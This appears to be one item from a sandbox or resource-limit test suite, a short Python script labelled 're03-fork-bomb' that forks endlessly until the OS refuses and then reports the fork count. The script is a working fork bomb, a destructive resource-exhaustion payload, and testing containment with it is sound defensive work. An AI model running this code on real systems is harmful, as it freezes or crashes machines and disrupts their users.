# id: re03-fork-bomb
# category: resource
# effect: fork bomb
# touches_os: yes
# destructive: yes
# fast: yes
import os, time
n = 0
try:
    while True:
        os.fork()
        n += 1
except OSError as e:
    import errno
    print("ESCAPE-RESULT: forks=%d errno=%s" % (n, errno.errorcode.get(e.errno, "?")))
    time.sleep(1)
